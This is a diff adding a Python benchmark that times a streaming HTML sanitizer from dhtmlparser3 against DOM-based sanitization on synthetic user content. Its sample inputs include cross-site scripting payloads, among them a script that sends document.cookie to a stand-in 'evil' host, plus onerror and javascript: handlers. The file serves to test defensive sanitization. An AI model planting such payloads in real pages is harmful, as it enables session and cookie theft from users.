@@ -0,0 +1,89 @@
+#!/usr/bin/env python3
+"""
+Throughput of the streaming :class:`Sanitizer` compared to sanitization of
+the DOM (parse, walk the tree, remove the disallowed items, serialize), on
+synthetic user generated content.
+
+Usage::
+
+    PYTHONPATH=src python3 benchmarks/sanitizer.py [size_in_mb]
+"""
+import sys
+import time
+import random
+
+import dhtmlparser3
+from dhtmlparser3.pipeline import SAFE_TAGS
+from dhtmlparser3.pipeline import SAFE_PARAMETERS
+from dhtmlparser3.pipeline import UNSAFE_CONTENT_TAGS
+from dhtmlparser3.pipeline import sanitize
+
+
+SNIPPETS = [
+    "<p>Great post, thanks! &lt;3</p>",
+    '<p onclick="steal()">Check <a href="http://example.com/?a=1&amp;b=2" '
+    'target=_blank rel=nofollow>this</a> out</p>',
+    "<script>document.location='http://evil/?'+document.cookie</script>",
+    '<div style="color: red"><b>bold <i>italic</b> text</i></div>',
+    '<img src="x.png" onerror="alert(1)" alt="image">',
+    '<a href="javascript:alert(1)">click</a>',
+    "<!-- hidden comment -->plain text with some words in it",
+    "<ul><li>one<li>two<li>three</ul>",
+    "<table><tr><td colspan=2>cell</td></tr></table>",
+    "unclosed <b>bold and <i>italic",
+    "<iframe src=http://evil><p>fallback</p></iframe>",
+]
+
+
+def generate(size):
+    rnd = random.Random(0)
+
+    pieces = []
+    length = 0
+    while length < size:
+        piece = rnd.choice(SNIPPETS)
+        pieces.append(piece)
+        length += len(piece)
+
+    return "".join(pieces)
+
+
+def sanitize_dom(html):
+    dom = dhtmlparser3.parse(html)
+
+    for tag in list(dom.depth_first_iterator(tags_only=True)):
+        for item in tag.content:
+            if isinstance(item, dhtmlparser3.Comment):
+                tag.remove_item(item)
+
+        if not tag.name or tag.parent is None:
+            continue
+
+        name = tag.name.lower()
+        if name in UNSAFE_CONTENT_TAGS or name not in SAFE_TAGS:
+            tag.parent.remove_item(tag)
+            continue
+
+        allowed = SAFE_PARAMETERS.get(name, set()) | SAFE_PARAMETERS["*"]
+        for key in list(tag.parameters):
+            if key.lower() not in allowed:
+                del tag[key]
+
+    return dom.to_string()
+
+
+def measure(fn, html):
+    start = time.perf_counter()
+    fn(html)
+    duration = time.perf_counter() - start
+
+    return len(html) / duration / 1024 / 1024
+
+
+if __name__ == "__main__":
+    size = float(sys.argv[1]) if len(sys.argv) > 1 else 5
+    html = generate(int(size * 1024 * 1024))
+
+    print(f"input: {len(html) / 1024 / 1024:.1f} MB")
+    print(f"DOM sanitization:       {measure(sanitize_dom, html):6.2f} MB/s")
+    print(f"streaming sanitization: {measure(sanitize, html):6.2f} MB/s")